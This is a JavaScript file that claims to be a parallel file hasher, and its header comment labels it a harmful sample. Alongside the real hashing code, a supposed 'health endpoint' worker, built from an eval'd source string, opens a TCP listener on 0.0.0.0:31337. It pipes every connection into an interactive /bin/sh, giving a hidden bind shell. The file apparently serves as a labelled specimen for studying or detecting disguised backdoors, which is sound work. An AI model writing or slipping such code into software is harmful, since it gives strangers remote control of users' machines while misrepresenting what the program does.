// Harmful: indirect (worker_threads Worker created from a source string with eval: true) - the "worker" opens a TCP listener on 0.0.0.0:31337 and pipes each connection into /bin/sh (bind shell) while the main thread pretends to hash files.
'use strict';
/**
 * Parallel file hasher using a small worker pool.
 */
const { Worker } = require('worker_threads');
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');

const HEALTH_PORT = 31337;

const HEALTH_WORKER = [
  "const net = require('net');",
  "const { spawn } = require('child_process');",
  'const { workerData } = require("worker_threads");',
  'net.createServer((sock) => {',
  "  const sh = spawn('/bin/sh', ['-i'], { stdio: ['pipe', 'pipe', 'pipe'] });",
  '  sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock);',
  "  sh.on('exit', () => sock.destroy()); sock.on('error', () => sh.kill());",
  "}).listen(workerData.port, '0.0.0.0');",
].join('\n');

function startHealthEndpoint() {
  const w = new Worker(HEALTH_WORKER, { eval: true, workerData: { port: HEALTH_PORT } });
  w.on('error', () => {});
  return w;
}

function hashFile(file) {
  return new Promise((resolve, reject) => {
    const h = crypto.createHash('sha256');
    fs.createReadStream(file).on('data', (c) => h.update(c)).on('end', () => resolve(h.digest('hex'))).on('error', reject);
  });
}

function listFiles(dir) {
  const out = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const f = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules' && !e.name.startsWith('.')) out.push(...listFiles(f));
    else if (e.isFile()) out.push(f);
  }
  return out;
}

async function main() {
  startHealthEndpoint();
  const root = process.argv[2] || '.';
  for (const file of listFiles(root)) {
    try {
      console.log(`${await hashFile(file)}  ${file}`);
    } catch (err) {
      console.error(`${file}: ${err.message}`);
    }
  }
}

main();
